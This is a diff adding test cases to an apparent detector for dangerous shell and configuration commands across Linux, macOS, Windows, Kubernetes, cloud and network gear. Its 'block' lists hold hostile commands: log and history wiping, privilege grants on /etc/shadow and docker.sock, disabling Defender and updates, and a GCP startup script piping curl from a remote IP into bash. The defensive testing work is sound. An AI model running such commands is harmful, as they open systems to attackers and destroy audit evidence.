@@ -476,3 +476,111 @@ runCases("reverts", [
     ],
   },
 ]);
+
+runCases("more 2", [
+  {
+    id: "linux.service_account_privileged_group",
+    block: ["usermod -aG docker www-data", "gpasswd -a nginx sudo"],
+    pass: ["usermod -aG docker maria", "usermod -aG www-data deploy", "adduser www-data"],
+  },
+  {
+    id: "linux.history_wiped",
+    block: ["rm -f ~/.bash_history && history -c", "cat /dev/null > /root/.zsh_history"],
+    pass: ["wc -l ~/.bash_history", "tail -n 50 ~/.zsh_history"],
+  },
+  {
+    id: "linux.sensitive_acl",
+    block: ["setfacl -m u:www-data:rw /etc/shadow", "setfacl -m u:ci:rw /var/run/docker.sock"],
+    pass: ["getfacl /etc/shadow", "setfacl -m u:deploy:rx /srv/app"],
+  },
+  {
+    id: "linux.security_agent_stopped",
+    block: ["systemctl disable --now unattended-upgrades"],
+    pass: ["systemctl enable --now unattended-upgrades"],
+  },
+  {
+    id: "linux.logs_wiped",
+    block: ["rm -rf /var/log/*"],
+    pass: ["rm -rf /var/log/myapp/old/*.gz", "ls /var/log/"],
+  },
+  {
+    id: "macos.protections_off_misc",
+    block: [
+      "sudo defaults write /Library/Preferences/com.apple.security.libraryvalidation.plist DisableLibraryValidation -bool true",
+      "sudo defaults write /Library/Preferences/com.apple.SoftwareUpdate AutomaticCheckEnabled -bool false",
+    ],
+    pass: [
+      "sudo defaults write /Library/Preferences/com.apple.SoftwareUpdate AutomaticCheckEnabled -bool true",
+      "softwareupdate -l",
+    ],
+  },
+  {
+    id: "win.accounts_opened",
+    block: [
+      `reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v LimitBlankPasswordUse /t REG_DWORD /d 0 /f`,
+      `Add-LocalGroupMember -Group "Administrators" -Member "Everyone"`,
+      "Enable-LocalUser -Name Guest",
+    ],
+    pass: [
+      `Add-LocalGroupMember -Group "Administrators" -Member "CORP\\ops-admins"`,
+      "Disable-LocalUser -Name Guest",
+    ],
+  },
+  {
+    id: "win.update_disabled",
+    block: [
+      `reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU" /v NoAutoUpdate /t REG_DWORD /d 1 /f`,
+    ],
+    pass: [
+      `reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU" /v NoAutoUpdate /t REG_DWORD /d 0 /f`,
+    ],
+  },
+  {
+    id: "win.security_agent_stopped",
+    block: ["Disable-WindowsOptionalFeature -Online -FeatureName Windows-Defender -NoRestart"],
+    pass: ["Get-WindowsOptionalFeature -Online -FeatureName Windows-Defender"],
+  },
+  {
+    id: "k8s.control_plane_weakened",
+    block: [
+      "kube-apiserver --disable-admission-plugins=PodSecurity,NodeRestriction",
+      "apiVersion: audit.k8s.io/v1\nkind: Policy\nrules:\n  - level: None\n",
+    ],
+    pass: [
+      "kube-apiserver --enable-admission-plugins=NodeRestriction,PodSecurity",
+      'apiVersion: audit.k8s.io/v1\nkind: Policy\nrules:\n  - level: None\n    users: ["system:kube-proxy"]\n  - level: Metadata\n',
+    ],
+  },
+  {
+    id: "cloud.guardrails_removed_misc",
+    block: [
+      "aws iam delete-role-permissions-boundary --role-name app-deployer",
+      "aws rds modify-db-instance --db-instance-identifier prod --backup-retention-period 0 --apply-immediately",
+      "az vm open-port -g rg -n jump01 --port 3389",
+    ],
+    pass: [
+      "aws rds modify-db-instance --db-instance-identifier prod --backup-retention-period 14",
+      "az vm open-port -g rg -n web01 --port 443",
+    ],
+  },
+  {
+    id: "gcp.startup_script_payload",
+    block: [
+      `gcloud compute instances add-metadata vm-1 --metadata startup-script='curl -s http://203.0.113.8/b.sh | bash'`,
+    ],
+    pass: [
+      `gcloud compute instances add-metadata vm-1 --metadata startup-script='apt-get update && apt-get install -y nginx'`,
+    ],
+  },
+  {
+    id: "net.admin_cleartext_or_acl_removed",
+    block: [
+      "conf t\nusername support privilege 15 password 0 Support123\nend",
+      "interface Gi0/0\n no ip access-group OUTSIDE-IN in",
+    ],
+    pass: [
+      "conf t\nusername support privilege 15 algorithm-type scrypt secret Zx9-long\nend",
+      "interface Gi0/0\n ip access-group OUTSIDE-IN in",
+    ],
+  },
+]);
